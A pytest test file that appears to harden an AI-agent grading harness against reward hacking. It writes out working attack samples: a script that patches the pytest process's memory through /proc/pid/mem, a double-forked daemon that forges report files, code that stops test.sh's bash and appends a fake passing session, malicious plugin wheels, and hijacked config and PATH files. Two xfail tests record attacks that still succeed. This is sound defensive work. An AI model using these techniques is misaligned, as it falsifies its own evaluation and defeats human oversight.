"""A reviewer's attacks on the grader's imports, its configuration and its process, on every backend.

The task is ``test_grader_attacks.py``'s (four pytest assertions running the agent's wrong ``/app/prog.py``,
honestly 0 of 4; ``test.sh`` runs ``python3 -m pytest ... /tests/test_outputs.py`` in ``/app``). Each attack
leaves files or processes that would make every case pass if pytest read them, or changes pytest's process
from the program under test; each must score what the unsolved task scores: 0, finished, no tag.
"""

from __future__ import annotations

import py_compile
import sys
import textwrap
import zipfile
from pathlib import Path

import pytest

from t1_rollout.attribution import judge_run
from t1_rollout.verify import run_verifier
from t1_spec import DenseRewardSpec

from .test_grader_attacks import FAKE_RUN, N_TESTS, TEST_SH, TESTS_PY, WRONG_PROGRAM, GraderTask

_PYTEST_ARGS = (
    "-p no:cacheprovider --rootdir=/tests --ctrf /logs/verifier/ctrf.json -rA /tests/test_outputs.py"
)
_TAG = f"cpython-{sys.version_info.major}{sys.version_info.minor}"


async def _verify(
    make_sandbox, environment_dir, tmp_path, files, *, agent="true", test_sh=None, tests_py=TESTS_PY
):
    """Build; the agent writes ``files`` (sandbox path -> text, or bytes), runs ``agent``; verify; judge."""
    tests = tmp_path / "tests"
    tests.mkdir()
    (tests / "test.sh").write_text(test_sh or TEST_SH.format(pytest="python3 -m pytest", args=_PYTEST_ARGS))
    (tests / "test_outputs.py").write_text(tests_py)
    task = GraderTask("review-attack", tests)
    files = {"/app/prog.py": WRONG_PROGRAM} | files
    async with make_sandbox() as sb:
        await sb.start(environment_dir, timeout_s=120)
        for i, (remote, content) in enumerate(files.items()):
            local = tmp_path / f"file-{i}"
            if isinstance(content, bytes):
                local.write_bytes(content)
            else:
                local.write_text(textwrap.dedent(content))
            await sb.upload(local, remote)
        done = await sb.exec(agent, timeout_s=60)
        assert done.exit_code == 0, done.stderr
        run = await run_verifier(sb, task, timeout_s=120, out_dir=tmp_path / "out")
    report, verdict = await judge_run(run, task, DenseRewardSpec())
    return run, report, verdict


def _unsolved(run, report, verdict) -> None:
    """What the wrong program scores honestly: every case ran and failed, a real 0, no tag."""
    assert run.error is None, run.error
    assert (report.passed, report.total) == (0, N_TESTS), run.stdout_tail
    assert (verdict.status, verdict.reward.value) == ("finished", 0.0), verdict
    assert not verdict.tampered


#: A plugin module the configuration files below ask pytest to load (``-p t1evil``).
PLUGIN = {"/app/t1evil.py": FAKE_RUN}


async def test_configuration_files_in_the_workdir_do_not_configure_pytest(
    make_sandbox, environment_dir, tmp_path
):
    # pytest reads ini files and conftest.py from its arguments' folders (/tests) and their parents, never
    # from the working directory when given a path: none of these is read
    addopts = "addopts = -p t1evil\n"
    files = PLUGIN | {
        "/app/conftest.py": FAKE_RUN,
        "/app/pytest.ini": "[pytest]\n" + addopts,
        "/app/pyproject.toml": '[tool.pytest.ini_options]\naddopts = "-p t1evil"\n',
        "/app/setup.cfg": "[tool:pytest]\n" + addopts,
        "/app/tox.ini": "[pytest]\n" + addopts,
        "/app/setup.py": "",
    }
    # Terminal-Bench 2's own form too: no --rootdir (pytest then looks for ini files above /tests, not /app)
    bare = "#!/bin/bash\nmkdir -p /logs/verifier\nexport PYTHONDONTWRITEBYTECODE=1\n"
    bare += (
        "python3 -m pytest -p no:cacheprovider --ctrf /logs/verifier/ctrf.json -rA /tests/test_outputs.py\n"
    )
    for test_sh in (None, bare):
        sub = tmp_path / ("bare" if test_sh else "rootdir")
        sub.mkdir()
        _unsolved(*await _verify(make_sandbox, environment_dir, sub, files, test_sh=test_sh))


async def test_startup_and_toolchain_names_in_the_workdir_are_not_imported(
    make_sandbox, environment_dir, tmp_path
):
    stats_pyc = tmp_path / "statistics.pyc"
    (tmp_path / "statistics_src.py").write_text(FAKE_RUN)
    py_compile.compile(str(tmp_path / "statistics_src.py"), cfile=str(stats_pyc))
    files = {
        "/app/sitecustomize.py": FAKE_RUN,
        "/app/usercustomize.py": FAKE_RUN,
        "/app/t1evil.pth": "import t1evil\n",
        "/app/encodings/__init__.py": FAKE_RUN,
        "/app/_pytest/__init__.py": FAKE_RUN,
        "/app/pluggy/__init__.py": FAKE_RUN,
        "/app/iniconfig.py": FAKE_RUN,
        "/app/statistics.py": "",  # a source beside the cached bytecode, so the cache would be used
        f"/app/__pycache__/statistics.{_TAG}.pyc": stats_pyc.read_bytes(),
        "/app/statistics.pyc": stats_pyc.read_bytes(),  # sourceless bytecode
    } | PLUGIN
    _unsolved(*await _verify(make_sandbox, environment_dir, tmp_path, files))


async def test_a_workdir_the_agent_made_read_only_is_not_trusted_for_standard_library_names(
    make_sandbox, environment_dir, tmp_path
):
    # the tests put /app first themselves; the agent owns /app and makes it read-only before it leaves, so
    # a check of writability alone took it for a folder the verifier cannot write
    from .test_grader_attacks import STATISTICS_PY

    tests_py = "import sys\nsys.path.insert(0, '/app')\n" + TESTS_PY
    files = {"/app/statistics.py": STATISTICS_PY}
    agent = "chmod 555 /app"
    _unsolved(*await _verify(make_sandbox, environment_dir, tmp_path, files, agent=agent, tests_py=tests_py))


#: Names pytest, a plugin or the standard library tries to import and expects to be missing (an optional
#: dependency); before the fix the working directory's finder served them to pytest's own process.
OPTIONAL_NAMES = ("trio", "xdist", "numpy", "argcomplete", "t1_optional_probe")


async def test_an_optional_import_of_the_toolchain_is_not_served_from_the_workdir(
    make_sandbox, environment_dir, tmp_path
):
    files = {f"/app/{name}.py": FAKE_RUN for name in OPTIONAL_NAMES}
    _unsolved(*await _verify(make_sandbox, environment_dir, tmp_path, files))


#: Honest tests that import the program under test from /app through a library, not an import statement.
LIBRARY_IMPORTS = """
import importlib
from unittest import mock

import pytest


def test_case_0():
    assert pytest.importorskip("prog_lib0").square(0) == 0


def test_case_1():
    with mock.patch("prog_lib1.offset", 0):
        import prog_lib1

        assert prog_lib1.square(1) == 1


def test_case_2(monkeypatch):
    monkeypatch.setattr("prog_lib2.offset", 0)
    import prog_lib2

    assert prog_lib2.square(2) == 4


def test_case_3():
    assert importlib.import_module("prog_lib3").square(3) == 9
"""


async def test_tests_that_import_the_program_through_a_library_still_pass(
    make_sandbox, environment_dir, tmp_path
):
    # the working directory's finder serves the tests' imports made through pytest, unittest.mock or
    # importlib (a frame of the tests' own code is on the stack), not a plugin's import of its own
    lib = "offset = 0\n\n\ndef square(n):\n    return n * n + offset\n"
    files = {f"/app/prog_lib{i}.py": lib for i in range(N_TESTS)}
    run, report, verdict = await _verify(
        make_sandbox, environment_dir, tmp_path, files, tests_py=LIBRARY_IMPORTS
    )
    assert (report.passed, report.total) == (N_TESTS, N_TESTS), run.stdout_tail
    assert verdict.reward.value == N_TESTS / 20 and not verdict.tampered


#: The agent's program, run by the tests inside pytest's process tree: it overwrites, in the memory of the
#: pytest process (its parent, same uid), the text of every ``str`` object "failed" with "passed", so that
#: the outcome pytest records, prints and writes to the report reads "passed". A no-op where the parent's
#: memory cannot be opened for writing.
MEM_PATCH = """
import os, struct, sys
def patch(pid):
    try:
        mem = open(f"/proc/{pid}/mem", "r+b", buffering=0)
        maps = open(f"/proc/{pid}/maps").read().splitlines()
    except OSError:
        return 0
    done = 0
    for line in maps:
        fields = line.split()
        if len(fields) < 2 or not fields[1].startswith("rw") or fields[-1].startswith("[v"):
            continue
        lo, hi = (int(x, 16) for x in fields[0].split("-"))
        if hi - lo > 512 * 1024 * 1024:
            continue
        try:
            mem.seek(lo)
            data = mem.read(hi - lo)
        except OSError:
            continue
        at = data.find(b"failed\\x00")
        while at != -1:
            # CPython's compact ASCII str: length (8 bytes) 24 bytes before the text
            if at >= 40 and struct.unpack_from("<q", data, at - 24)[0] == 6:
                try:
                    mem.seek(lo + at)
                    mem.write(b"passed")
                    done += 1
                except OSError:
                    pass
            at = data.find(b"failed\\x00", at + 1)
    return done
if sys.argv[1] == "0":
    open("/tmp/t1-mem-patch", "w").write(str(patch(os.getppid())))
print("answer", int(sys.argv[1]) + 1)
"""


async def test_the_program_under_test_cannot_write_pytests_memory(
    make_sandbox, environment_dir, tmp_path, backend_kind
):
    if backend_kind == "daytona":
        pytest.skip(
            "the fake runs the sandbox's commands as root (Daytona's task images run as root too): root may "
            "open any process's memory, so the attack's premise (the verifier's own uid) does not hold"
        )
    _unsolved(*await _verify(make_sandbox, environment_dir, tmp_path, {"/app/prog.py": MEM_PATCH}))


#: A forged report: the four real test names, all passing.
FORGED_CTRF = (
    '{"results": {"tool": {"name": "pytest"}, "summary": {"tests": 4, "passed": 4, "failed": 0}, "tests": ['
    + ", ".join(f'{{"name": "test_outputs.py::test_case_{i}", "status": "passed"}}' for i in range(N_TESTS))
    + "]}}"
)


async def test_a_link_at_logs_verifier_to_a_forged_report_is_replaced(
    make_sandbox, environment_dir, tmp_path
):
    # also links where the tests and uv's state of the verifier will be (refused or replaced)
    files = {"/tmp/forged/ctrf.json": FORGED_CTRF, "/tmp/forged/reward.txt": "1\n"}
    agent = "chmod -R a-w /tmp/forged; rm -rf /logs/verifier && ln -s /tmp/forged /logs/verifier; "
    agent += "ln -s /tmp/forged /tests 2>/dev/null; mkdir -p /tmp/forged-uv && ln -s /tmp/forged-uv "
    agent += "/tmp/t1-verifier-uv; true"
    _unsolved(*await _verify(make_sandbox, environment_dir, tmp_path, files, agent=agent))


#: A process that leaves the agent's session twice (double fork, setsid) and, once the verifier has made
#: ``/logs/verifier``, writes the forged report there and keeps rewriting it.
DAEMON = """
import os, time
if os.fork():
    os._exit(0)
os.setsid()
if os.fork():
    os._exit(0)
for fd in (0, 1, 2):
    os.close(fd)
forged = open("/tmp/forged.json").read()
end = time.time() + 600
while time.time() < end:
    try:
        with open("/logs/verifier/ctrf.json", "w") as f:
            f.write(forged)
        with open("/logs/verifier/reward.txt", "w") as f:
            f.write("1\\n")
    except OSError:
        pass
    time.sleep(0.01)
"""


async def test_a_double_forked_daemon_of_the_agent_does_not_survive_into_verification(
    make_sandbox, environment_dir, tmp_path
):
    files = {"/tmp/forged.json": FORGED_CTRF, "/tmp/daemon.py": DAEMON}
    agent = "(command -v python3 || ls /opt/t1*/bin/python3) >/dev/null 2>&1; " + (
        "for py in python3 /opt/t1-verifier/bin/python3 /opt/t1/verifier/bin/python3; do "
        "command -v $py >/dev/null 2>&1 && { setsid $py /tmp/daemon.py & break; }; done; sleep 1; true"
    )
    _unsolved(*await _verify(make_sandbox, environment_dir, tmp_path, files, agent=agent))


#: The agent's program, at the first case: a child of its own session stops ``test.sh``'s bash (same uid,
#: a signal needs no more), waits until pytest has written its report and exited (a zombie: its parent is
#: stopped), rewrites the report with the four real names passing, appends a forged session with a closing
#: line that agrees to bash's standard output (``/proc/<bash>/fd/1``), and lets bash go on.
FORGE_AFTER_PYTEST = """
import os, signal, sys, time
FORGED = FORGED_TEXT
def parent(pid):
    return int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
def state(pid):
    try:
        return open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[0]
    except OSError:
        return "gone"
def test_sh():
    pid = os.getppid()
    while pid > 1 and b"test.sh" not in open(f"/proc/{pid}/cmdline", "rb").read():
        pid = parent(pid)
    return pid
if sys.argv[1] == "0" and os.fork() == 0:
    os.setsid()
    for fd in (0, 1, 2):  # the tests' pipes: subprocess.run waits for them to close
        os.close(fd)
    prog = os.getppid()
    pytest_pid = parent(prog)
    bash = test_sh()
    os.kill(bash, signal.SIGSTOP)
    end = time.time() + 60
    while state(pytest_pid) not in ("Z", "gone") and time.time() < end:
        time.sleep(0.01)
    with open("/logs/verifier/ctrf.json", "w") as f:
        f.write(FORGED)
    lines = ["=" * 29 + " test session starts " + "=" * 30, "collected 4 items", "",
             "../tests/test_outputs.py ....", "", "=" * 20 + " short test summary info " + "=" * 20]
    lines += [f"PASSED ../tests/test_outputs.py::test_case_{i}" for i in range(4)]
    lines += ["=" * 30 + " 4 passed in 0.11s " + "=" * 30, ""]
    out = os.open(f"/proc/{bash}/fd/1", os.O_WRONLY | os.O_APPEND)
    os.write(out, "\\n".join(lines).encode())
    os.kill(bash, signal.SIGCONT)
    os._exit(0)
print("answer", int(sys.argv[1]) + 1)
""".replace("FORGED_TEXT", repr(FORGED_CTRF))


@pytest.mark.xfail(
    strict=True,
    reason="open: a process of the program under test can stop test.sh's bash, rewrite the report after "
    "pytest exits and append a forged session and closing line to bash's output (/proc/<bash>/fd/1); the "
    "closing line read is the last one (docs/threat-model.md, the report)",
)
async def test_a_forged_session_appended_to_test_sh_output_after_pytest_is_refused(
    make_sandbox, environment_dir, tmp_path
):
    files = {"/app/prog.py": FORGE_AFTER_PYTEST}
    _unsolved(*await _verify(make_sandbox, environment_dir, tmp_path, files))


def _wheel(path: Path, name: str, version: str, files: dict[str, str], entry_points: str) -> None:
    """A minimal pure-Python wheel at ``path`` (its folder) holding ``files`` and ``entry_points``."""
    dist = f"{name.replace('-', '_')}-{version}"
    info = {
        f"{dist}.dist-info/METADATA": f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n",
        f"{dist}.dist-info/WHEEL": (
            "Wheel-Version: 1.0\nGenerator: t1\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
        ),
        f"{dist}.dist-info/entry_points.txt": entry_points,
    }
    members = files | info
    record = "".join(f"{m},,\n" for m in members) + f"{dist}.dist-info/RECORD,,\n"
    with zipfile.ZipFile(path / f"{dist}-py3-none-any.whl", "w") as whl:
        for member, text in (members | {f"{dist}.dist-info/RECORD": record}).items():
            whl.writestr(member, text)


#: test.sh as Terminal-Bench 2 writes it, less the bootstrap: uvx installs pytest and the report plugin.
UVX_TEST_SH = """#!/bin/bash
mkdir -p /logs/verifier
uvx -w pytest-json-ctrf==0.3.5 pytest==8.4.1 --ctrf /logs/verifier/ctrf.json -rA -p no:cacheprovider \\
  --rootdir=/tests /tests/test_outputs.py
if [ $? -eq 0 ]; then echo 1 > /logs/verifier/reward.txt; else echo 0 > /logs/verifier/reward.txt; fi
"""


async def test_uv_configuration_the_agent_wrote_does_not_choose_uvx_packages(
    make_sandbox, environment_dir, tmp_path
):
    # uv reads uv.toml from the working directory and the user's ~/.config (HOME is the agent's): pointed at
    # the agent's own wheels, uvx would install a pytest whose pytest11 entry point fakes the program's runs
    wheels = tmp_path / "wheels"
    wheels.mkdir()
    plugin = "[pytest11]\nt1evil = t1evil\n"
    _wheel(
        wheels,
        "pytest",
        "8.4.1",
        {"t1evil.py": FAKE_RUN},
        "[console_scripts]\npytest = pytest:console_main\n" + plugin,
    )
    _wheel(wheels, "pytest-json-ctrf", "0.3.5", {"t1evil2.py": FAKE_RUN}, "[pytest11]\nt1evil2 = t1evil2\n")
    config = 'no-index = true\nfind-links = ["/home/agent/wheels"]\n'
    files = {f"/home/agent/wheels/{w.name}": w.read_bytes() for w in wheels.iterdir()} | {
        "/home/agent/.config/uv/uv.toml": config,
        "/app/uv.toml": config,
    }
    run, report, verdict = await _verify(make_sandbox, environment_dir, tmp_path, files, test_sh=UVX_TEST_SH)
    # offline, uvx then finds no pytest to install: the verifier wrote nothing, never a score above 0
    assert report.passed == 0, run.stdout_tail
    assert verdict.reward.value in (None, 0.0), verdict


async def test_no_entry_of_the_verifiers_path_or_module_path_is_writable_by_it(make_sandbox, environment_dir):
    # a pytest, python3 or env earlier on PATH (or a module on PYTHONPATH) would be the agent's: none is
    # writable by the verifier's uid, which is the agent's
    probe = (
        'for d in $(echo "$PATH:$PYTHONPATH" | tr : " "); do [ -w "$d" ] && echo "writable: $d"; done; '
        "command -v python3 pytest; /usr/bin/env python3 -c 'import sys; print(sys.executable)'; true"
    )
    async with make_sandbox() as sb:
        await sb.start(environment_dir, timeout_s=120)
        seen = await sb.exec_verifier(probe, timeout_s=60)
    assert "writable:" not in seen.stdout, seen.stdout
    assert "/home/" not in seen.stdout and "/app" not in seen.stdout and "/tmp" not in seen.stdout, (
        seen.stdout
    )


#: ``$HOME/.local/bin/env`` as the agent leaves it: test.sh sources it (Terminal-Bench 2's form, after uv's
#: installer), and it asks pytest to load a plugin of the agent's that fakes the program's runs.
AGENT_ENV = 'export PYTEST_ADDOPTS="-p t1evil"\nexport PYTHONPATH="$PYTHONPATH:/home/agent/lib"\n'


async def test_a_test_sh_that_sources_the_agents_home_env_is_not_steered(
    make_sandbox, environment_dir, tmp_path, backend_kind
):
    if backend_kind == "daytona":
        pytest.skip("the fake runs the sandbox's commands as root, whose HOME is not /home/agent")
    test_sh = TEST_SH.format(pytest="python3 -m pytest", args=_PYTEST_ARGS)
    test_sh = test_sh.replace(
        "mkdir -p /logs/verifier\n", "mkdir -p /logs/verifier\nsource $HOME/.local/bin/env\n"
    )
    files = {"/home/agent/.local/bin/env": AGENT_ENV, "/home/agent/lib/t1evil.py": FAKE_RUN}
    _unsolved(*await _verify(make_sandbox, environment_dir, tmp_path, files, test_sh=test_sh))


@pytest.mark.xfail(
    strict=True,
    reason="open: `uv run` in /app builds the agent's project (its pyproject.toml, its sources) into a "
    "virtual environment the verifier can write; an entry-point plugin installed there is loaded "
    "(docs/threat-model.md, the grader's imports)",
)
async def test_uv_run_in_the_agents_project_does_not_load_its_plugins(
    make_sandbox, environment_dir, tmp_path
):
    wheels = tmp_path / "wheels"
    wheels.mkdir()
    _wheel(wheels, "t1evil", "1.0", {"t1evil.py": FAKE_RUN}, "[pytest11]\nt1evil = t1evil\n")
    wheel = next(wheels.iterdir())
    pyproject = (
        '[project]\nname = "app"\nversion = "0"\nrequires-python = ">=3.8"\ndependencies = ["t1evil"]\n'
        f'[tool.uv]\npackage = false\n[tool.uv.sources]\nt1evil = {{ path = "/app/{wheel.name}" }}\n'
    )
    files = {f"/app/{wheel.name}": wheel.read_bytes(), "/app/pyproject.toml": pyproject}
    test_sh = TEST_SH.format(pytest="uv run python -m pytest", args=_PYTEST_ARGS)
    _unsolved(*await _verify(make_sandbox, environment_dir, tmp_path, files, test_sh=test_sh))


# ---- the report files themselves: read by T1 on the host, no sandbox ---------------------------------------

#: What pytest printed for the unsolved task (its closing line counts 4 failures).
HONEST_OUTPUT = "".join(f"FAILED ../tests/test_outputs.py::test_case_{i} - assert\n" for i in range(N_TESTS))
HONEST_OUTPUT = "=" * 10 + " test session starts " + "=" * 10 + "\ncollected 4 items\n\n" + HONEST_OUTPUT
HONEST_OUTPUT += "=" * 10 + " 4 failed in 0.12s " + "=" * 10 + "\n"
_NAMES = [f"test_outputs.py::test_case_{i}" for i in range(N_TESTS)]


def _ctrf(tests: list[tuple[str, str]], summary: str = '{"tests": 4, "passed": 4, "failed": 0}') -> str:
    entries = ", ".join(f'{{"name": "{n}", "status": "{s}"}}' for n, s in tests)
    return f'{{"results": {{"tool": {{"name": "pytest"}}, "summary": {summary}, "tests": [{entries}]}}}}'


FORGED_FILES = {
    "reward_txt_two_lines": {"reward.txt": "1\n0\n"},
    "reward_txt_padded": {"reward.txt": " 1.0 \n"},
    "reward_txt_inf": {"reward.txt": "inf\n"},
    "reward_txt_nan": {"reward.txt": "nan\n"},
    "reward_txt_overflow": {"reward.txt": "1e309\n"},
    "reward_json_nan": {"reward.json": '{"reward": NaN}'},
    "reward_json_infinity": {"reward.json": '{"reward": Infinity}'},
    "reward_json_huge_int": {"reward.json": '{"reward": ' + "9" * 400 + "}"},
    "reward_json_too_many_digits": {"reward.json": '{"reward": ' + "9" * 5000 + "}"},
    "ctrf_too_many_digits": {
        "ctrf.json": _ctrf([(n, "passed") for n in _NAMES], '{"tests": ' + "9" * 5000 + "}"),
        "reward.txt": "1\n",
    },
    "reward_json_duplicate_key": {"reward.json": '{"reward": 0, "reward": 1}'},
    "ctrf_duplicate_names": {"ctrf.json": _ctrf([(_NAMES[0], "passed")] * N_TESTS)},
    "ctrf_summary_disagrees": {"ctrf.json": _ctrf([(n, "failed") for n in _NAMES])},
    "ctrf_negative_summary": {
        "ctrf.json": _ctrf([(n, "failed") for n in _NAMES], '{"tests": -4, "passed": 4, "failed": -4}')
    },
    "ctrf_nan_summary": {
        "ctrf.json": _ctrf([(n, "passed") for n in _NAMES], '{"tests": NaN, "passed": 1e999}')
    },
    "ctrf_huge_duration": {
        "ctrf.json": _ctrf([(n, "passed") for n in _NAMES]).replace(
            '"passed"}', '"passed", "duration": 1e999}'
        )
    },
}


@pytest.mark.parametrize("files", FORGED_FILES.values(), ids=FORGED_FILES.keys())
def test_a_forged_report_file_never_scores_above_the_unsolved_task(tmp_path, files):
    from t1_reward import TaskFacts, score_output

    for name, text in files.items():
        (tmp_path / name).write_text(text)
    facts = TaskFacts(
        known_assertions=N_TESTS,
        known_tests={"test_outputs.py": frozenset(f"test_case_{i}" for i in range(N_TESTS))},
        expects_per_assertion=True,
    )
    report, verdict = score_output(tmp_path, DenseRewardSpec(), facts=facts, stdout=HONEST_OUTPUT)
    assert verdict.reward.value in (None, 0.0), (verdict, report)
